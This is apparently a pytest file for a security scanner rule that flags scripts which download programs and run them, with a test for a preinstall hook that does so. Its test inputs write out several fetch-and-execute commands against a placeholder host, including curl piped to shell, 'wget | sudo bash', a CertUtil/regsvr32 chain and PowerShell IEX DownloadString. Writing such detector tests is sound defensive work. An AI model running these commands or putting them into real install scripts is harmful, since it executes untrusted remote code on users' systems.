"""Shell, batch and PowerShell files that download programs, and run them."""

import time

import pytest

from approvals.inspection.finding import Severity
from tests.approvals.inspection.findings.packages import QUIET, found, found_in

RULE = "shell-script-download"
AT = "https://files.example.invalid/tool"
RUNS = f"#!/bin/sh\nset -e\ncurl -sL {AT} -o tool\nchmod +x tool\n./tool\n"


@pytest.mark.parametrize(
    ("path", "code", "line"),
    [
        ("setup.sh", RUNS, 3),
        ("setup", RUNS, 3),
        ("setup.sh", f"wget -qO- {AT} | sudo bash\n", 1),
        ("setup.bat", f"@echo off\r\nCertUtil -urlcache -f {AT} t.dll\r\nregsvr32 -s t.dll\r\n", 2),
        ("setup.ps1", f"$a = 1\nIEX (New-Object Net.WebClient).DownloadString('{AT}')\n", 2),
        ("setup.sh", f"curl {AT}/where\ncurl {AT} -o t\nchmod 755 t\n./t\n", 2),
    ],
    ids=["shell", "without an ending", "piped", "batch", "powershell", "the one that is kept"],
)
def test_downloading_and_running_is_high(path: str, code: str, line: int) -> None:
    (finding,) = found_in(code, path, rule=RULE)
    assert (finding.severity, finding.path, finding.line) == (Severity.HIGH, path, line)


def test_it_is_critical_where_something_runs_on_installation() -> None:
    manifest = {"scripts": {"preinstall": "sh setup.sh"}}
    new = {**QUIET, "setup.sh": RUNS}
    (finding,) = found(QUIET, new, rule=RULE, manifest=manifest)
    assert finding.severity == Severity.CRITICAL


def test_downloading_alone_is_medium() -> None:
    (finding,) = found_in(f"curl {AT} -o words.txt\n", "words.sh", rule=RULE)
    assert finding.severity == Severity.MEDIUM


def test_what_was_there_or_is_a_remark_or_no_script_is_nothing() -> None:
    before = {**QUIET, "setup.sh": RUNS}
    assert found(before, {**before, "setup.sh": RUNS + "echo done\n"}, rule=RULE) == []
    assert found_in(f"# curl {AT} | sh\nchmod +x tool\n", "setup.sh", rule=RULE) == []
    assert found_in(f"Run `curl {AT} | sh`.\n", "README.md", rule=RULE) == []


def test_endless_lines_take_no_time() -> None:
    code = (f"curl {AT} ;" + "x" * 9_000) * 1_500
    started = time.perf_counter()
    assert len(found_in(code, "setup.sh", rule=RULE)) == 1
    assert time.perf_counter() - started < 10
